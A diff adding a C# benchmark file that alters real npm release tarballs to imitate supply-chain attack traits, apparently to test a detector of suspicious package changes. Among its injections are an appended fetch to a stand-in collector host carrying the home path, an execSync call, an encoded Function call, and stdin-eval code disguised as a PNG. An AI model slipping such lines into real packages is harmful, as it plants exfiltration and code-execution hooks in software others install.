@@ -1,0 +1,169 @@
+using System.Formats.Tar;
+using System.IO.Compression;
+using System.Text;
+using System.Text.Json.Nodes;
+
+namespace Sluice.Benchmarks;
+
+/// <summary>A file of a release while it is changed.</summary>
+internal sealed record ReleaseFile(string Path, byte[] Bytes, int Mode);
+
+/// <summary>Something that happened to releases of others, done to a real release.</summary>
+/// <param name="Apply">False where the release has nothing that it can be done to.</param>
+internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Apply)
+{
+    private const int Plain = 0b110_100_100;
+    private const int Executable = 0b111_101_101;
+
+    public static IReadOnlyList<Injection> All { get; } =
+    [
+        new("a source map with sources beside the code", files => Change(files, IsCode, (file, _) => { files.Add(new ReleaseFile(file.Path + ".map", Map(), Plain)); return file; })),
+        new("a source map within the code", files => Change(files, IsCode, (file, _) => Append(file, "\n//# sourceMappingURL=data:application/json;base64," + Convert.ToBase64String(Map()) + "\n"))),
+        new("a tree of sources", files => AddMany(files, "package/source-tree/part", ".tsx", 40, "import type { Part } from './part';\nexport const part: Part = { name: 'part' };\n")),
+        new("a copy of the whole tree in a folder", files => { files.AddRange(files.ConvertAll(file => file with { Path = "package/copy/" + file.Path })); return true; }),
+        new("an install script", files => Manifest(files, json => Object(json, "scripts")["preinstall"] = "node setup.js")),
+        new("a second install script", files => Manifest(files, json => Object(json, "scripts")["postinstall"] = "node -e \"0\"") && Manifest(files, json => Object(json, "scripts")["preinstall"] = "node -e \"0\"")),
+        new("a new command", files => { files.Add(new ReleaseFile("package/tool.js", "#!/usr/bin/env node\n"u8.ToArray(), Executable)); return Manifest(files, json => json["bin"] = new JsonObject { ["helper-tool"] = "tool.js" }); }),
+        new("twice the size", files => { files.Add(new ReleaseFile("package/data.txt", Encoding.ASCII.GetBytes(Words((int)Math.Min(60_000_000, Math.Max(30_000, files.Sum(file => (long)file.Bytes.Length) * 12 / 10)))), Plain)); return true; }),
+        new("twice the files", files => AddMany(files, "package/extra/item", ".txt", Math.Max(12, files.Count * 12 / 10), "item\n")),
+        new("a native library for Linux", files => { files.Add(new ReleaseFile("package/bindings/addon.node", Elf(), Plain)); return true; }),
+        new("a program for Windows", files => { files.Add(new ReleaseFile("package/helper.exe", PortableExecutable(), Plain)); return true; }),
+        new("a WebAssembly module", files => { files.Add(new ReleaseFile("package/helper.wasm", [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], Plain)); return true; }),
+        new("a new obfuscated file", files => { files.Add(new ReleaseFile("package/router_init.js", Obfuscated(), Plain)); return true; }),
+        new("an existing file obfuscated", files => Change(files, IsCode, (file, _) => file with { Bytes = Obfuscated() })),
+        new("a readable file minified", files => Change(files, file => IsCode(file) && IsReadable(file), (file, text) => file with { Bytes = Encoding.UTF8.GetBytes(text.Replace("\r", "", StringComparison.Ordinal).Replace('\n', ' ')) })),
+        new("network in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch(", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nfetch('https://collector.example/' + process.env.HOME);\n"))),
+        new("processes in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "child_process", "execSync"), (file, _) => Append(file, "\nrequire('child_process').execSync('id');\n"))),
+        new("evaluation in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval(", "new Function(", "runIn"), (file, _) => Append(file, "\nnew Function(atob('MQ=='))();\n"))),
+        new("a dependency from an address", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "https://cdn.example/helper-lib.tgz")),
+        new("a dependency from a repository", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "git+https://git.example/helper-lib.git")),
+        new("code under the name of a picture", files => { files.Add(new ReleaseFile("package/logo.png", "eval(require('fs').readFileSync(0,'utf8'))\n"u8.ToArray(), Plain)); return true; }),
+        new("a program under the name of a text", files => Change(files, file => file.Path.EndsWith(".md", StringComparison.OrdinalIgnoreCase), (file, _) => file with { Bytes = Elf() })),
+        new("an archive", files => { files.Add(new ReleaseFile("package/backup.zip", Zip(), Plain)); return true; }),
+        new("an environment file", files => { files.Add(new ReleaseFile("package/.env.production", "MODE=production\n"u8.ToArray(), Plain)); return true; }),
+    ];
+
+    /// <returns>The changed release; null where it cannot be done.</returns>
+    public byte[]? To(string file)
+    {
+        var files = ReadFiles(file);
+        return Apply(files) ? Pack(files) : null;
+    }
+
+    private static List<ReleaseFile> ReadFiles(string file)
+    {
+        using var gzip = new GZipStream(File.OpenRead(file), CompressionMode.Decompress);
+        using var tar = new TarReader(gzip);
+        var files = new List<ReleaseFile>();
+        while (tar.GetNextEntry(copyData: true) is { } entry)
+        {
+            using var content = new MemoryStream();
+            entry.DataStream?.CopyTo(content);
+            if (entry.EntryType is TarEntryType.RegularFile or TarEntryType.V7RegularFile)
+                files.Add(new ReleaseFile(entry.Name, content.ToArray(), (int)entry.Mode));
+        }
+
+        return files;
+    }
+
+    private static byte[] Pack(List<ReleaseFile> files)
+    {
+        using var output = new MemoryStream();
+        using (var gzip = new GZipStream(output, CompressionLevel.Fastest, leaveOpen: true))
+        using (var tar = new TarWriter(gzip, TarEntryFormat.Pax))
+        {
+            foreach (var file in files)
+                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, file.Path) { DataStream = new MemoryStream(file.Bytes), Mode = (UnixFileMode)file.Mode });
+        }
+
+        return output.ToArray();
+    }
+
+    /// <summary>Changes the first file that fits.</summary>
+    private static bool Change(List<ReleaseFile> files, Predicate<ReleaseFile> fits, Func<ReleaseFile, string, ReleaseFile> change)
+    {
+        var at = files.FindIndex(fits);
+        if (at >= 0)
+            files[at] = change(files[at], Encoding.UTF8.GetString(files[at].Bytes));
+        return at >= 0;
+    }
+
+    private static bool IsCode(ReleaseFile file) => (file.Path.EndsWith(".js", StringComparison.Ordinal) || file.Path.EndsWith(".cjs", StringComparison.Ordinal) || file.Path.EndsWith(".mjs", StringComparison.Ordinal)) && file.Bytes.Length > 2000;
+
+    private static bool IsReadable(ReleaseFile file) => file.Bytes.Length / (file.Bytes.Count(c => c == '\n') + 1) < 100;
+
+    private static bool Has(ReleaseFile file, params string[] words) => Array.Exists(words, word => file.Bytes.AsSpan().IndexOf(Encoding.ASCII.GetBytes(word)) >= 0);
+
+    private static ReleaseFile Append(ReleaseFile file, string text) => file with { Bytes = [.. file.Bytes, .. Encoding.UTF8.GetBytes(text)] };
+
+    private static bool AddMany(List<ReleaseFile> files, string path, string extension, int count, string text)
+    {
+        var letters = Enumerable.Range(0, count).Select(i => $"{(char)('a' + (i / 676 % 26))}{(char)('a' + (i / 26 % 26))}{(char)('a' + (i % 26))}");
+        files.AddRange(letters.Select(name => new ReleaseFile($"{path}-{name}{extension}", Encoding.UTF8.GetBytes(text), Plain)));
+        return true;
+    }
+
+    private static bool Manifest(List<ReleaseFile> files, Action<JsonObject> change) => Change(files, file => file.Path.EndsWith("/package.json", StringComparison.Ordinal) && file.Path.Count(c => c == '/') == 1, (file, text) =>
+    {
+        var json = JsonNode.Parse(text)!.AsObject();
+        change(json);
+        return file with { Bytes = Encoding.UTF8.GetBytes(json.ToJsonString()) };
+    });
+
+    private static JsonObject Object(JsonObject json, string name)
+    {
+        if (json[name] is not JsonObject)
+            json[name] = new JsonObject();
+        return json[name]!.AsObject();
+    }
+
+    private static byte[] Map() => Encoding.UTF8.GetBytes("""{"version":3,"sources":["../src/main.ts"],"sourcesContent":["export const main = () => 1;\n"],"names":[],"mappings":"AAAA"}""");
+
+    private static byte[] Obfuscated()
+    {
+        var random = new Random(5);
+        var text = new StringBuilder("var _0x1a2b=['\\x6c\\x6f\\x67'];");
+        for (var i = 0; i < 400; i++)
+            text.Append(System.Globalization.CultureInfo.InvariantCulture, $"var _0x{random.Next(0x100000, 0xffffff):x}=_0x1a2b[{i % 7}]^0x{random.Next(255):x};");
+        return Encoding.ASCII.GetBytes(text.ToString());
+    }
+
+    private static string Words(int length)
+    {
+        var random = new Random(7);
+        var text = new StringBuilder(length + 16);
+        while (text.Length < length)
+            text.Append((char)('a' + random.Next(26))).Append((char)('a' + random.Next(26))).Append((char)('a' + random.Next(26))).Append(random.Next(12) == 0 ? '\n' : ' ');
+        return text.ToString();
+    }
+
+    private static byte[] Elf()
+    {
+        var bytes = new byte[4096];
+        ((ReadOnlySpan<byte>)[0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]).CopyTo(bytes);
+        (bytes[16], bytes[18], bytes[20]) = (3, 62, 1);
+        return bytes;
+    }
+
+    private static byte[] PortableExecutable()
+    {
+        var bytes = new byte[4096];
+        "MZ"u8.CopyTo(bytes);
+        bytes[0x3c] = 0x80;
+        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
+        (bytes[0x84], bytes[0x85]) = (0x64, 0x86);
+        return bytes;
+    }
+
+    private static byte[] Zip()
+    {
+        using var output = new MemoryStream();
+        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
+        {
+            using var writer = new StreamWriter(zip.CreateEntry("notes.txt").Open());
+            writer.Write("notes\n");
+        }
+
+        return output.ToArray();
+    }
+}
